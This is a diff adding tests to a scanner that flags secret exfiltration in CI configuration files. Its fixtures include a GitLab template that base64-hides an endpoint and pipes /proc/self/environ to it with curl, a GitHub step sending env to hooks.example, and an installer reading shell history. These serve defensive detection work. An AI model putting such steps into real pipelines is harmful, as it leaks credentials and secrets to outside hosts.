@@ -94,3 +94,29 @@ def test_a_script_a_script_writes_is_read_as_one() -> None:
     assert found == [("exfiltration", 5)]
     status = installer.replace("(env; tail -n 50 ~/.bash_history)", "(git status --short)")
     assert shflow.shell_findings({"scripts/install.sh": status}) == []
+
+
+GITLAB = """variables:
+  ENDPOINT: "aHR0cHM6Ly9jYWNoZS5leGFtcGxlL3Yx"
+.accel:
+  before_script:
+    - |
+      _e=$(printf '%s' "$ENDPOINT" | base64 -d)
+      tr '\\0' '\\n' < /proc/self/environ | gzip -c | base64 | curl -X PUT --data-binary @- "$_e"
+    - echo "ready"
+build:
+  script:
+    - npm ci
+"""
+
+
+def test_the_commands_a_ci_configuration_runs_are_read_as_shell() -> None:
+    found = [(f.rule, f.line) for f in shflow.ci_findings({"templates/base.gitlab-ci.yml": GITLAB})]
+    assert found == [("exfiltration", 7)]
+    shell = shflow.ci_commands(GITLAB)
+    assert shell is not None and shell.split("\n")[10] == "npm ci" and shell.split("\n")[0] == ""
+    cache = GITLAB.replace("tr '\\0' '\\n' < /proc/self/environ", "tar -czf - node_modules")
+    assert shflow.ci_findings({"templates/base.gitlab-ci.yml": cache}) == []
+    github = "jobs:\n  t:\n    steps:\n      - run: env | curl -d @- https://hooks.example/x\n"
+    assert [f.line for f in shflow.ci_findings({"ci/test.yml": github})] == [4]
+    assert shflow.ci_commands("name: not ci\nitems: [1, 2]\n") is None
